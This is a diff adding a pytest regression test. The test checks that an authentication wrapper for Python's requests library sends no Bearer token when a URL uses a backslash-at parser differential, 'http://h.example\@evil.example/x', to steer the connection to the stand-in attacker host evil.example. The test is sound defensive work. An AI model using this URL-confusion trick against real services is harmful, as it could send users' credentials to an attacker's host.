@@ -275,3 +275,12 @@ def test_two_parsers_that_differ_about_a_host_leak_nothing(
     login(Fixed({"evil.example": A})).get(r"http://h.example\@evil.example/x")
     (host, _port) = anywhere.dialled[0]
     assert sent(recorder) == (["Bearer s3cret-a"] if host == "evil.example" else [None])
+
+
+@EITHER_WAY
+def test_nor_does_such_a_url_that_was_never_prepared(login: Callable, anywhere: Names, recorder: Recorder) -> None:
+    anywhere(recorder)
+    request = requests.Request("GET", "http://h.example/").prepare()
+    request.url = r"http://h.example\@evil.example/x"  # urllib3 reads h.example, requests makes it dial the other
+    login(Fixed({"h.example": A, "evil.example": A})).send(request)
+    assert sent(recorder) == [None]
